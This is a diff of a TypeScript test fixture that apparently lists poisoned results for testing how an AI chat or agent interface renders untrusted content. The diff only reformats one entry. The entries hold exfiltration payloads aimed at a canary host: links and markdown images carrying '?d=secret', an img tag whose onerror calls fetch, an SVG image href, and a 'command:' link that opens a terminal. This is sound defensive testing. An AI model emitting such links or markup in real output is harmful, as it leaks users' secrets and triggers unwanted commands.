@@ -21,7 +21,9 @@ export const poisonedResults: readonly Poison[] = [
 	told("linkToWeb", (text) => [words(text), link(`${canaryPlace}/linked?d=secret`)]),
 	told("linkToCommand", (text) => [words(text), link("command:workbench.action.terminal.new")]),
 	told("imageInWords", (text) => [words(`![sum](${canaryPlace}/image.png?d=secret) ${text}`)]),
-	told("htmlInWords", (text) => [words(`<img src="${canaryPlace}/html.png" onerror="fetch('${canaryPlace}')"> ${text}`)]),
+	told("htmlInWords", (text) => [
+		words(`<img src="${canaryPlace}/html.png" onerror="fetch('${canaryPlace}')"> ${text}`),
+	]),
 	told("imageByAddress", (text) => [words(text), image(`<svg><image href="${canaryPlace}/svg.png"/></svg>`)]),
 	{
 		name: "failing",
